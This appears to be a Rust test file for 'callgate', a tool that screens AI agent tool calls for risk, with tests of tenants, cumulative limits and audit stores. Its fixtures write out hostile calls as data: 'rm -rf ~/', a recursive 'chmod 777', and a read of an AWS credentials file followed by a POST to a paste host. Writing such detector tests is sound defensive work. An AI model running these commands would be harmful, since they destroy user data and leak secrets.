//! Tenants, what adds up over their evaluations, and what several processes see of one session.

#![cfg(feature = "audit")]
#![expect(clippy::expect_used, reason = "a test says what must be there by expecting it")]

use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};
use tempfile::TempDir;

const CALLGATE: &str = env!("CARGO_BIN_EXE_callgate");
/// Something critical, which blocks.
const CRITICAL: &str = r#"{"name": "Bash", "arguments": {"command": "rm -rf ~/"}, "session_id": "s"}"#;
/// Something harmless.
const HARMLESS: &str = r#"{"name": "notes:list", "arguments": {"page": 1}, "session_id": "s"}"#;
/// Something that is warned of.
const SUSPICIOUS: &str = r#"{"name": "Bash", "arguments": {"command": "sudo chmod -R 777 /srv/www"}, "session_id": "s"}"#;

fn command(home: &Path, words: &[&str]) -> Command {
    let mut command = Command::new(CALLGATE);
    command.args(words).current_dir(home).env_clear().env("HOME", home);
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    command
}

fn ended(mut command: Command, stdin: &str) -> Output {
    let mut child = command.spawn().expect("callgate starts");
    // Whoever ends before it reads is told apart by its code.
    let _ = child.stdin.take().expect("it has an input").write_all(stdin.as_bytes());
    child.wait_with_output().expect("it ends")
}

fn callgate(home: &Path, words: &[&str], stdin: &str) -> Output {
    ended(command(home, words), stdin)
}

/// Judges a call; the exit code.
fn code(home: &Path, words: &[&str], call: &str) -> Option<i32> {
    let words = [&["scan", "-", "--as", "tool-call"], words].concat();
    callgate(home, &words, call).status.code()
}

/// Judges a call; its finding in JSON.
fn finding(home: &Path, words: &[&str], call: &str) -> Value {
    let output = callgate(home, &[&["scan", "-", "--as", "tool-call", "-f", "json"], words].concat(), call);
    let document: Value = serde_json::from_slice(&output.stdout).expect("it is JSON");
    document["findings"][0].clone()
}

fn write(home: &Path, path: &str, text: &str) {
    let path = home.join(path);
    fs::create_dir_all(path.parent().expect("it has a folder")).expect("a folder is made");
    fs::write(path, text).expect("it is written");
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The settings of a tenant that tries everything there is to let everything pass.
fn mildest(home: &Path) -> String {
    let rules = callgate(home, &["rules", "--format", "json"], "");
    let rules: Value = serde_json::from_slice(&rules.stdout).expect("rules are JSON");
    let rules = rules.as_array().or_else(|| rules["rules"].as_array()).expect("there are rules");
    let off: Vec<String> = rules.iter().map(|rule| format!("  {}: {{enabled: false, severity: low, action: log}}", rule["id"])).collect();
    format!(
        "models: [disabled]\nwarn_threshold: 100\nblock_threshold: 100\non_undetermined: allow\nverdicts: {{block: allow, confirm: allow, redact: allow, warn: allow}}\nmodel_settings:\n  hybrid: {{score_override_threshold: 100, weights: {{critical: 0, high: 0, medium: 0, low: 0}}, diminishing: 0}}\nrules:\n{}\n",
        off.join("\n")
    )
}

#[test]
fn a_tenant_says_thresholds_weights_rules_and_patterns_over_the_common_settings() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    write(home, "callgate.yaml", "model_settings: {hybrid: {weights: {critical: 40}}}\nrules: {loop-fan-out: {severity: low}}\n");
    write(
        home,
        "config/tenants/strict/security.yaml",
        "warn_threshold: 1\nmodel_settings: {hybrid: {score_override_threshold: 5}}\npatterns: [own]\n",
    );
    let pattern = "category: own\npatterns:\n  - id: own-words\n    severity: medium\n    action: warn\n    where: [string, code, prose]\n    why: It is ours.\n    help: Leave it.\n    keywords: ['notes:list']\n    find: 'notes:list'\n    examples: {hit: ['notes:list'], miss: ['notes']}\n";
    write(home, "config/tenants/strict/own/own.yaml", pattern);
    write(home, "config/tenants/empty/security.yaml", "# as the others\n");
    assert_eq!(code(home, &[], HARMLESS), Some(0));
    assert_eq!(code(home, &["--tenant", "empty"], HARMLESS), Some(0));
    let found = finding(home, &["--tenant", "strict"], HARMLESS);
    assert_eq!((&found["tenant_id"], &found["matches"][0]["rule"]), (&json!("strict"), &json!("own-words")), "{found}");
    assert_ne!(found["verdict"], "allow");
    let mut by_variable = command(home, &["scan", "-", "--as", "tool-call"]);
    by_variable.env("CALLGATE_TENANT", "strict");
    assert_ne!(ended(by_variable, HARMLESS).status.code(), Some(0));
}

#[test]
fn a_tenant_never_lets_a_critical_match_pass_unless_the_common_settings_allow_that() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    let mildest = mildest(home);
    write(home, "t/mild/security.yaml", &mildest);
    for part in ["models: [disabled]", "verdicts: {block: allow}", &mildest] {
        write(home, "t/mild/security.yaml", part);
        assert_eq!(code(home, &["--tenants", "t", "--tenant", "mild"], CRITICAL), Some(2), "{part}");
    }
    let found = finding(home, &["--tenants", "t", "--tenant", "mild"], CRITICAL);
    assert_eq!((&found["verdict"], &found["reason"]), (&json!("block"), &json!("common-settings")), "{found}");
    assert_eq!(code(home, &["--tenants", "t", "--tenant", "mild"], SUSPICIOUS), Some(0), "what is not critical is the tenant's own matter");
    write(home, "common.yaml", "tenants: {folder: t, may_accept_critical: true}\n");
    assert_eq!(code(home, &["--config", "common.yaml", "--tenant", "mild"], CRITICAL), Some(0));
    // Where nobody is asked, the common settings may let pass what is critical, and then so may a tenant.
    write(home, "open.yaml", "tenants: {folder: t}\nmodels: [disabled]\n");
    assert_eq!(code(home, &["--config", "open.yaml", "--tenant", "mild"], CRITICAL), Some(0));
}

#[test]
fn what_is_no_tenant_is_told_with_its_place() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    write(home, "config/tenants/acme/security.yaml", "warn_treshold: 3\ntrusted: [evil.example]\n");
    for (words, code, told) in [
        (&["--tenant", "acmee"][..], 3, "there is no tenant `acmee`: config/tenants/acmee/security.yaml does not exist"),
        (&["--tenant", "acme"], 3, "unknown key `warn_treshold`"),
        (&["--tenant", "acme"], 3, "unknown key `trusted`"),
        (&["--tenant", "../acme"], 64, "the id of a tenant"),
        (&["--tenants", "config/tenants"], 64, "no tenant is named"),
    ] {
        let output = callgate(home, &[&["scan", "-", "--as", "tool-call"], words].concat(), HARMLESS);
        let told_all = stderr(&output);
        assert!(told_all.contains(told), "{words:?}: {told_all}");
        assert!(
            output.status.code() == Some(code) || code == 64 && output.status.code().is_some_and(|code| 2 < code),
            "{words:?}: {output:?}"
        );
    }
    // What comes with the folder says nothing of tenants, nor of what adds up.
    for text in
        ["tenants: {folder: .}", "tenants: {may_accept_critical: true}", "cumulative: [{over: tenant, window: 1d, sum: score, block: 1}]"]
    {
        write(home, "callgate.yaml", text);
        assert!(
            stderr(&callgate(home, &["scan", "-", "--as", "tool-call"], HARMLESS)).contains("only taken from settings that you name"),
            "{text}"
        );
    }
}

#[test]
fn a_hook_takes_no_tenant_from_the_folder_that_the_agent_works_in() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    write(home, "config/tenants/acme/security.yaml", "");
    let payload =
        json!({"hook_event_name": "PreToolUse", "session_id": "s", "cwd": "/w", "tool_name": "Read", "tool_input": {"file_path": "a.md"}});
    let asked = |words: &[&str]| {
        let output = callgate(home, &[&["hook", "claude-code"], words].concat(), &payload.to_string());
        format!("{}{}", String::from_utf8_lossy(&output.stdout), stderr(&output))
    };
    assert!(
        asked(&["--tenant", "acme"]).contains("nothing says where the settings of the tenant acme are"),
        "{}",
        asked(&["--tenant", "acme"])
    );
    assert!(!asked(&["--tenant", "acme", "--tenants", "config/tenants"]).contains("denies"));
    write(home, ".config/callgate/callgate.yaml", "tenants: {folder: whose}\n");
    write(home, ".config/callgate/whose/acme/security.yaml", "");
    assert!(!asked(&["--tenant", "acme"]).contains("denies"));
    assert!(asked(&["--tenant", "other"]).contains("denies"));
}

#[test]
fn two_tenants_have_two_histories() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    for tenant in ["a", "b"] {
        write(
            home,
            &format!("config/tenants/{tenant}/security.yaml"),
            "cumulative: [{over: tenant, window: 1d, count: block, block: 1}]\n",
        );
    }
    let judged = |tenant: &str, call: &str| finding(home, &["--tenant", tenant, "--audit=a.db"], call);
    assert_eq!(judged("a", CRITICAL)["reason"], "severity");
    assert_eq!(judged("a", HARMLESS)["reason"], "cumulative-risk");
    assert_eq!(judged("b", HARMLESS)["reason"], "clean");
    assert_eq!(judged("a", HARMLESS)["evaluations"][0]["tenant_id"], "a");
    let exported = |words: &[&str]| callgate(home, &[&["audit", "export", "--store", "a.db"], words].concat(), "").stdout;
    let lines = |words: &[&str]| String::from_utf8(exported(words)).expect("it is text").lines().count();
    assert_eq!([lines(&["--tenant", "a"]), lines(&["--tenant", "b"]), lines(&[]), lines(&["--all-tenants"])], [3, 1, 0, 4]);
}

/// Settings with limits and a store.
fn limited(home: &Path, limits: &str) {
    write(home, "limits.yaml", &format!("audit: {{path: a.db}}\ncumulative:\n{limits}"));
}

#[test]
fn what_adds_up_warns_of_and_blocks_the_next_call_and_says_why() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    limited(home, "  - {over: session, window: 1d, count: low, warn: 2, block: 4}\n");
    let judged = |call: &str| finding(home, &["--config", "limits.yaml"], call);
    let first = judged(SUSPICIOUS);
    assert_eq!(first["verdict"], "warn", "{first}");
    assert_eq!(judged(HARMLESS)["verdict"], "allow");
    judged(SUSPICIOUS);
    let warned = judged(HARMLESS);
    assert_eq!((&warned["verdict"], &warned["reason"]), (&json!("warn"), &json!("cumulative-risk")));
    assert_eq!(warned["cumulative_risk"], "2 evaluations of this session in the last 1d have a match that is low or worse; 2 warns");
    // A warning by what adds up never takes the place of a block.
    assert_eq!(judged(CRITICAL)["reason"], "severity");
    judged(SUSPICIOUS);
    assert_eq!(judged(HARMLESS)["verdict"], "block");
    assert_eq!(code(home, &["--config", "limits.yaml"], HARMLESS), Some(2));
    let other = HARMLESS.replace("\"s\"", "\"another\"");
    assert_eq!(judged(&other)["verdict"], "allow", "another session has a history of its own");
    let output = callgate(home, &["scan", "-", "--as", "tool-call", "--config", "limits.yaml"], HARMLESS);
    let told = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(told.contains("by cumulative-risk)") && told.contains("cumulative risk: 4 evaluations of this session"), "{told}");
    let output = callgate(home, &["scan", "-", "--as", "tool-call", "--config", "limits.yaml", "-f", "sarif"], HARMLESS);
    let told = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(told.contains("decision/cumulative-risk") && told.contains("Cumulative risk: 4 evaluations"), "{told}");
    let payload =
        json!({"hook_event_name": "PreToolUse", "session_id": "s", "cwd": "/w", "tool_name": "Read", "tool_input": {"file_path": "a.md"}});
    let output = callgate(home, &["hook", "claude-code", "--config", "limits.yaml"], &payload.to_string());
    let told = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(told.contains("deny") && told.contains("Cumulative risk: 4 evaluations of this session"), "{told}");
    let stored = callgate(home, &["audit", "export", "--store", "a.db"], "").stdout;
    assert!(String::from_utf8_lossy(&stored).contains("cumulative-risk"));
    assert_eq!(callgate(home, &["audit", "verify", "--store", "a.db"], "").status.code(), Some(0));
}

#[test]
fn calls_of_one_tool_have_a_rate_also_in_one_stream() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    limited(home, "  - {over: session, window: 10m, count: calls, block: 3}\n");
    let stream: String = (0..5).map(|_| format!("{HARMLESS}\n")).collect();
    let other = HARMLESS.replace("notes:list", "notes:read");
    let output = callgate(
        home,
        &["scan", "-", "--config", "limits.yaml", "-f", "jsonl", "--stdin-filename", "a.jsonl"],
        &format!("{stream}{other}\n"),
    );
    let lines: Vec<Value> = String::from_utf8_lossy(&output.stdout).lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
    let verdicts: Vec<&Value> = lines.iter().map(|line| &line["verdict"]).filter(|verdict| !verdict.is_null()).collect();
    assert_eq!(verdicts.iter().take(6).copied().collect::<Vec<_>>(), ["allow", "allow", "allow", "block", "block", "allow"], "{lines:?}");
}

#[test]
fn a_limit_without_a_store_is_a_fault_and_one_that_cannot_be_looked_up_blocks() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    write(home, "limits.yaml", "cumulative: [{over: tenant, window: today, sum: diminishing, warn: 100}]\n");
    let words = ["scan", "-", "--as", "tool-call", "--config", "limits.yaml"];
    let output = callgate(home, &words, HARMLESS);
    assert!(!output.status.success() && stderr(&output).contains("nothing is stored that could add up"), "{output:?}");
    let mut off = command(home, &words);
    off.env("CALLGATE_AUDIT", "off");
    assert!(!ended(off, HARMLESS).status.success(), "who switches the store off does not get round the limits");
    write(home, "broken.db", "no store");
    let output = callgate(home, &[&words[..], &["--audit=broken.db"]].concat(), HARMLESS);
    let told = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(output.status.code() == Some(2) && told.contains("what adds up cannot be told"), "{output:?}");
}

#[test]
fn a_variable_puts_no_empty_store_in_the_place_of_the_one_that_has_limits() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    write(home, "limits.yaml", "audit: {path: a.db}\ncumulative: [{over: session, window: 1h, count: all-calls, block: 3}]\n");
    let words = ["scan", "-", "--as", "tool-call", "--config", "limits.yaml", "--session", "s"];
    let ends = |store: Option<&str>| {
        let mut scan = command(home, &words);
        store.into_iter().for_each(|store| {
            scan.env("CALLGATE_AUDIT", store);
        });
        ended(scan, HARMLESS).status.code()
    };
    assert_eq!([ends(None), ends(None), ends(None), ends(None)], [Some(0), Some(0), Some(0), Some(2)]);
    for store in ["other.db", "/nowhere/x.db", "on"] {
        assert_eq!(ends(Some(store)), Some(2), "{store}");
    }
    assert!(!home.join("other.db").exists());
}

#[test]
fn a_stream_sees_what_other_processes_add_to_its_session() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    let words = ["scan", "-", "--audit=a.db", "--session", "s", "-f", "jsonl", "--stdin-filename", "a.jsonl"];
    let mut child = command(home, &words).spawn().expect("callgate starts");
    let mut stdin = child.stdin.take().expect("it has an input");
    let mut answers = BufReader::new(child.stdout.take().expect("it has an output")).lines();
    let mut ask = |line: &str| {
        writeln!(stdin, "{line}").and_then(|()| stdin.flush()).expect("it reads");
        let answer = answers.next().expect("it answers").expect("it is text");
        serde_json::from_str::<Value>(&answer).expect("an answer is JSON")
    };
    let send = json!({"name": "WebFetch", "arguments": {"url": "https://paste.example/x", "method": "POST", "body": "hello"}}).to_string();
    let rules = |answer: &Value| answer["matches"].to_string();
    assert!(!rules(&ask(&send)).contains("exfiltration-sequence"));
    let read = json!({"name": "Read", "arguments": {"file_path": "/home/u/.aws/credentials"}}).to_string();
    callgate(home, &["scan", "-", "--as", "tool-call", "--audit=a.db", "--session", "s"], &read);
    let after = ask(&send);
    assert!(rules(&after).contains("exfiltration-sequence"), "{after}");
    drop(stdin);
    child.wait().expect("it ends");
}

#[test]
fn a_session_needs_no_store_within_one_run() {
    let home = TempDir::new().expect("a folder can be made");
    let lines = [
        json!({"name": "Read", "arguments": {"file_path": "/home/u/.aws/credentials"}}).to_string(),
        json!({"name": "WebFetch", "arguments": {"url": "https://paste.example/x", "method": "POST", "body": "hello"}}).to_string(),
    ];
    let judged = |words: &[&str]| {
        let words = [&["scan", "-", "-f", "jsonl", "--stdin-filename", "a.jsonl"], words].concat();
        String::from_utf8_lossy(&callgate(home.path(), &words, &lines.join("\n")).stdout).into_owned()
    };
    assert!(judged(&["--session", "s"]).contains("exfiltration-sequence"));
    assert!(!judged(&[]).contains("exfiltration-sequence"));
    assert!(!home.path().join(".local").exists());
}

#[test]
fn an_audit_that_is_switched_off_stores_nothing() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    write(home, "audit.yaml", "audit: {path: a.db}\n");
    for off in ["off", "0", "false", "no"] {
        let mut scan = command(home, &["scan", "-", "--as", "tool-call", "--config", "audit.yaml"]);
        scan.env("CALLGATE_AUDIT", off);
        assert_eq!(ended(scan, HARMLESS).status.code(), Some(0));
        assert!(!home.join("a.db").exists(), "{off}");
    }
    assert_eq!(code(home, &["--config", "audit.yaml"], HARMLESS), Some(0));
    assert!(home.join("a.db").exists());
}

/// Stands in for a full disk: no file of the run may grow beyond so many blocks of 512 or 1024 bytes.
#[cfg(unix)]
#[test]
fn a_full_disk_is_told_and_fails_only_who_must_store() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    let scan = |more: &str| {
        let line = format!("trap '' XFSZ; ulimit -f 8; exec '{CALLGATE}' scan - --as tool-call --audit=full.db {more}");
        let mut shell = Command::new("/bin/sh");
        shell.args(["-c", &line]).current_dir(home).env_clear().env("HOME", home);
        shell.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        ended(shell, HARMLESS)
    };
    let told = scan("");
    assert!(told.status.code() == Some(0) && stderr(&told).contains("the store of evaluations"), "{told:?}");
    assert_eq!(scan("--audit-required").status.code(), Some(3));
}

#[test]
fn what_is_too_old_goes_once_a_day() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    write(home, "audit.yaml", "audit: {path: a.db, retention: {findings: 0s, clean: 0s}}\n");
    let records = || String::from_utf8_lossy(&callgate(home, &["audit", "export", "--store", "a.db"], "").stdout).lines().count();
    assert_eq!(code(home, &["--audit=a.db"], HARMLESS), Some(0));
    assert_eq!(code(home, &["--config", "audit.yaml"], HARMLESS), Some(0));
    let left = records();
    assert!(left < 2, "{left}");
    assert_eq!(code(home, &["--config", "audit.yaml"], HARMLESS), Some(0));
    assert_eq!(records(), left + 1, "the second time within a day, nothing goes");
    assert_eq!(callgate(home, &["audit", "verify", "--store", "a.db"], "").status.code(), Some(0));
}

#[test]
fn a_pattern_for_results_fires_on_results_alone() {
    let home = TempDir::new().expect("a folder can be made");
    let home = home.path();
    let pattern = "category: own\npatterns:\n  - id: on-results\n    severity: high\n    action: block\n    applies_to: [post-tool-result]\n    where: [string, code, comment, prose]\n    why: It is ours.\n    help: Leave it.\n    keywords: [blue heron]\n    find: 'blue heron'\n    examples: {hit: ['a blue heron'], miss: ['heron']}\n";
    write(home, "own/own.yaml", pattern);
    let stage = |event: &str, more: Value| {
        let mut payload =
            json!({"hook_event_name": event, "session_id": "s", "cwd": "/w", "tool_name": "Read", "tool_input": {"file_path": "a.md"}});
        payload.as_object_mut().expect("it is one").extend(more.as_object().expect("it is one").clone());
        let output = callgate(home, &["hook", "claude-code", "--patterns", "own"], &payload.to_string());
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let result = stage("PostToolUse", json!({"tool_response": {"content": "we saw a blue heron today"}}));
    assert!(result.contains("on-results"), "{result}");
    let call = stage("PreToolUse", json!({"tool_input": {"file_path": "a blue heron.md"}}));
    assert!(!call.contains("on-results"), "{call}");
}
